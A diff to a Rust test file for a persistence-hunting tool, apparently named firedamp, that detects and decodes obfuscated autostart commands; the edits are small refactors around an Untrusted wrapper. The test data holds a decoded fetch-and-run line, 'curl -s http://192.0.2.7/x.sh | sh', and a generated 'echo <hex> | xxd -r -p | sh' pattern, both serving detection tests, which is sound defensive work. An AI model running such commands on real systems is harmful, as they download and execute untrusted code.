@@ -7,6 +7,7 @@ use std::time::{Duration, Instant};
 use firedamp::domain::facts::{
     Autostart, AutostartKind, Packaged, Persistence, Reading, Remark, Trick, decoded, tricks,
 };
+use firedamp::domain::untrusted::Untrusted;
 use firedamp::host::probe::{Hunt, Roots};
 use proptest::prelude::*;
 use tempfile::tempdir;
@@ -20,7 +21,7 @@ fn recorded() -> Persistence {
 /// One line an entry: what can be told on every machine that this tree is checked out on.
 fn told(entry: &Autostart) -> String {
     let mut line = format!("{} {}:{}", entry.kind.name(), entry.path.printable(), entry.line);
-    let user = entry.user.as_ref().map(|user| user.printable());
+    let user = entry.user.as_ref().map(Untrusted::printable);
     write!(line, " [{}] {:?}", user.unwrap_or_default(), entry.text).unwrap();
     if let Some(runs) = &entry.runs {
         let there = match runs.exists {
@@ -61,7 +62,7 @@ fn what_stands_in_base64_is_read() {
     let found = recorded();
     let packed = found.entries.iter().find(|it| it.tricks.contains(&Trick::Base64)).unwrap();
     let inside: Vec<String> =
-        decoded(packed.text.bytes()).iter().map(|text| text.printable()).collect();
+        decoded(packed.text.bytes()).iter().map(Untrusted::printable).collect();
     assert_eq!(inside, ["curl -s http://192.0.2.7/x.sh | sh"]);
 }
 
@@ -204,7 +205,10 @@ proptest! {
 
     #[test]
     fn whatever_is_packed_is_unpacked(words in "[a-z]{2,8} /[a-z/ ]{8,40}") {
-        let packed = words.bytes().map(|byte| format!("{byte:02x}")).collect::<String>();
+        let mut packed = String::new();
+        for byte in words.bytes() {
+            write!(packed, "{byte:02x}").unwrap();
+        }
         let line = format!("echo {packed} | xxd -r -p | sh");
         prop_assert!(tricks(line.as_bytes()).contains(&Trick::Hex));
         prop_assert!(decoded(line.as_bytes()).iter().any(|it| it.bytes() == words.as_bytes()));
